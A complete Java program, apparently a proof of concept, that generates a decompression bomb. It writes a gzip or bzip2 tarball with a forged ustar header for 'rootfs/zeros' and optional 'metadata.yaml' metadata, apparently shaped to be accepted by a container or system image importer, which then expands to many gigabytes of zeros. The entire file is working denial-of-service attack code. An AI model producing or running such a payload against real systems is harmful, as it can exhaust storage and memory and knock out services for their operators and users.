import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.zip.GZIPOutputStream;
import org.apache.commons.compress.compressors.bzip2.BZip2CompressorOutputStream;

/// Writes a tarball to standard output that unpacks to so many GiB of zeros: `Bomb bzip2 117`
/// has no metadata before them, `Bomb gzip 117` has all that is needed. Needs commons-compress on the
/// class path.
final class Bomb {
    private static final int ZEROS = 45 << 20;

    private Bomb() {}

    public static void main(String[] arguments) throws IOException {
        boolean bzip2 = arguments[0].equals("bzip2");
        long bytes = Long.parseLong(arguments[1]) << 30;
        byte[] zeros = packed(bzip2, new byte[ZEROS]);
        System.out.write(packed(bzip2, bzip2 ? header("rootfs/zeros", 7L << 30) : beginning()));
        for (long done = 0; done < bytes; done += ZEROS) {
            System.out.write(zeros);
        }
        System.out.flush();
    }

    private static byte[] beginning() {
        byte[] metadata =
                "architecture: x86_64\ncreation_date: 1767225600\n"
                        .getBytes(StandardCharsets.US_ASCII);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(header("metadata.yaml", metadata.length));
        out.writeBytes(metadata);
        out.writeBytes(new byte[512 - metadata.length]);
        out.writeBytes(header("rootfs/zeros", 7L << 30));
        return out.toByteArray();
    }

    /// Of a regular file, as ustar has it.
    private static byte[] header(String name, long size) {
        byte[] block = new byte[512];
        put(block, 0, name);
        put(block, 100, "0000644\0" + "0000000\0" + "0000000\0");
        put(block, 124, "%011o\0%011o\0".formatted(size, 0));
        put(block, 148, "        0");
        put(block, 257, "ustar\00000");
        int sum = 0;
        for (byte b : block) {
            sum += b;
        }
        put(block, 148, "%06o\0 ".formatted(sum));
        return block;
    }

    private static void put(byte[] block, int at, String text) {
        byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(bytes, 0, block, at, bytes.length);
    }

    private static byte[] packed(boolean bzip2, byte[] plain) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (OutputStream packed =
                bzip2 ? new BZip2CompressorOutputStream(out) : new GZIPOutputStream(out)) {
            packed.write(plain);
        }
        return out.toByteArray();
    }
}
